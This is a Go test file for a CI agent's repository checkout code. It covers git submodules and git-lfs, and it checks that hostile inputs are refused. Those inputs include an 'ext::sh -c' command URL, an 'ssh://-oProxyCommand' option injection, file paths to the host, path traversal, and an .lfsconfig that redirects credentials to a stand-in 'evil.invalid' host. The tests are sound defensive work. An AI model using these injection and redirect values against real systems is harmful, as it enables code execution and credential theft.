package checkout_test

import (
	"crypto/sha256"
	"encoding/hex"
	"encoding/json"
	"fmt"
	"net/http"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/ottoci/otto/agent/checkout"
	"github.com/ottoci/otto/client"
)

// nest makes repositories in each other: outer has middle, and that inner, beside it.
func nest(t *testing.T) (root, head string) {
	t.Helper()
	root = t.TempDir()
	made := func(name string) *repo {
		r := &repo{t, filepath.Join(root, name)}
		if err := os.Mkdir(r.dir, 0o755); err != nil {
			t.Fatal(err)
		}
		r.git("init", "--quiet", "--initial-branch=main")
		return r
	}
	inner, middle, outer := made("inner"), made("middle"), made("outer")
	inner.commit("f", "inner\n")
	middle.git("submodule", "--quiet", "add", inner.dir, "deep/inner")
	middle.git("config", "--file", ".gitmodules", "submodule.deep/inner.url", "../inner")
	middle.commit("f", "middle\n")
	outer.git("submodule", "--quiet", "add", middle.dir, "m")
	outer.git("config", "--file", ".gitmodules", "submodule.m.url", "./../middle")
	return root, outer.commit("f", "outer\n")
}

func TestSubmodules(t *testing.T) {
	t.Parallel()
	root, head := nest(t)
	w := newWeb(t, root)
	s := open(t, checkout.Config{CAFile: w.CAFile})
	r := request(t, w.URL+"/outer", head)
	must(t, s, r)
	if left, err := os.ReadDir(filepath.Join(r.Into, "m")); err != nil || len(left) > 0 {
		t.Errorf("nobody asked for the submodule: %v %v", left, err)
	}
	r = request(t, w.URL+"/outer", head)
	r.Submodules = true
	must(t, s, r)
	for path, want := range map[string]string{"f": "outer\n", "m/f": "middle\n", "m/deep/inner/f": "inner\n"} {
		if got := read(t, filepath.Join(r.Into, path)); got != want {
			t.Errorf("%s is %q", path, got)
		}
	}
	if got := (&repo{t, r.Into}).git("status", "--porcelain"); got != "" {
		t.Errorf("status: %s", got)
	}
}

// A repository cannot lead an agent to files of its machine, to programs, or into itself without end.
func TestHostileSubmodules(t *testing.T) {
	t.Parallel()
	private := newRepo(t)
	hidden := private.commit("f", "private\n")
	pwned := filepath.Join(t.TempDir(), "pwned")
	for name, c := range map[string]struct{ url, refused string }{
		"a_file_of_the_machine": {"file://" + private.dir, "to the agent's own files"},
		"a_path_of_the_machine": {private.dir, "is no address"},
		"a_program":             {"ext::sh -c touch% " + pwned, "no address has"},
		"no_host":               {"https:///evil", "gitmodulesUrl"},
		"an_option":             {"ssh://-oProxyCommand=touch/x", ""},
		"above_all":             {"../../../../..", "has no path"},
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			origin := newRepo(t)
			commit := origin.commitTree(entry{"100644", ".gitmodules", "[submodule \"x\"]\n\tpath = sub\n\turl = \"" + c.url + "\"\n"}, entry{"160000", "sub", hidden})
			w := newWeb(t, filepath.Dir(origin.dir))
			s := open(t, checkout.Config{CAFile: w.CAFile, Schemes: []string{"https", "ssh", "file"}})
			r := request(t, w.URL+"/origin", commit)
			r.Submodules = true
			refused(t, s, r, c.refused)
			if _, err := os.Lstat(pwned); err == nil {
				t.Error("a program ran")
			}
		})
	}
	t.Run("itself", func(t *testing.T) {
		t.Parallel()
		origin := newRepo(t)
		modules := entry{"100644", ".gitmodules", "[submodule \"x\"]\n\tpath = sub\n\turl = ./\n"}
		at := origin.commit("f", "end\n")
		for range 12 {
			at = origin.commitTree(modules, entry{"160000", "sub", at})
		}
		w := newWeb(t, filepath.Dir(origin.dir))
		r := request(t, w.URL+"/origin", at)
		r.Submodules = true
		refused(t, open(t, checkout.Config{CAFile: w.CAFile}), r, "more than 8 deep")
	})
}

// large serves the objects of git-lfs beside a repository, to ana only.
func large(t *testing.T, w *web, content string) {
	t.Helper()
	sum := sha256.Sum256([]byte(content))
	id := hex.EncodeToString(sum[:])
	w.before = func(out http.ResponseWriter, r *http.Request) bool {
		if !strings.Contains(r.URL.Path, "/info/lfs/") {
			return false
		}
		if user, given, _ := r.BasicAuth(); user != "ana" || given != secret {
			out.Header().Set("WWW-Authenticate", `Basic realm="lfs"`)
			http.Error(out, `{"message":"who are you?"}`, http.StatusUnauthorized)
			return true
		}
		if strings.HasSuffix(r.URL.Path, "/objects/batch") {
			out.Header().Set("Content-Type", "application/vnd.git-lfs+json")
			_ = json.NewEncoder(out).Encode(map[string]any{"transfer": "basic", "objects": []any{map[string]any{
				"oid": id, "size": len(content), "authenticated": true, "actions": map[string]any{"download": map[string]any{"href": w.URL + "/origin.git/info/lfs/objects/" + id, "header": map[string]string{"Authorization": r.Header.Get("Authorization")}}},
			}}})
			return true
		}
		_, _ = fmt.Fprint(out, content)
		return true
	}
}

func TestLargeFiles(t *testing.T) {
	t.Parallel()
	need(t, "git-lfs")
	const content = "the large content\n"
	origin := newRepo(t)
	sum := sha256.Sum256([]byte(content))
	pointer := fmt.Sprintf("version https://git-lfs.github.com/spec/v1\noid sha256:%s\nsize %d\n", hex.EncodeToString(sum[:]), len(content))
	// The settings say where a hostile repository would have its credentials sent.
	head := origin.commitTree(
		entry{"100644", ".gitattributes", "*.bin filter=lfs diff=lfs merge=lfs -text\n"}, entry{"100644", ".lfsconfig", "[lfs]\n\turl = https://evil.invalid/\n\tfetchexclude = *\n"},
		entry{"100644", "a.bin", pointer})
	w := newWeb(t, filepath.Dir(origin.dir))
	w.password = secret
	large(t, w, content)
	dir := filepath.Join(t.TempDir(), "mirrors")
	s := open(t, checkout.Config{Dir: dir, CAFile: w.CAFile, Credentials: credentials(t, line(w, ""))})
	r := request(t, w.URL+"/origin", head)
	must(t, s, r)
	if got := read(t, filepath.Join(r.Into, "a.bin")); got != pointer {
		t.Errorf("nobody asked for the content: %q", got)
	}
	r = request(t, w.URL+"/origin", head)
	r.CheckoutSpec = client.CheckoutSpec{LFS: true}
	must(t, s, r)
	if got := read(t, filepath.Join(r.Into, "a.bin")); got != content {
		t.Errorf("got %q", got)
	}
	for _, tree := range []string{dir, r.Into} {
		lacks(t, tree, "canary-hunter2")
	}
}
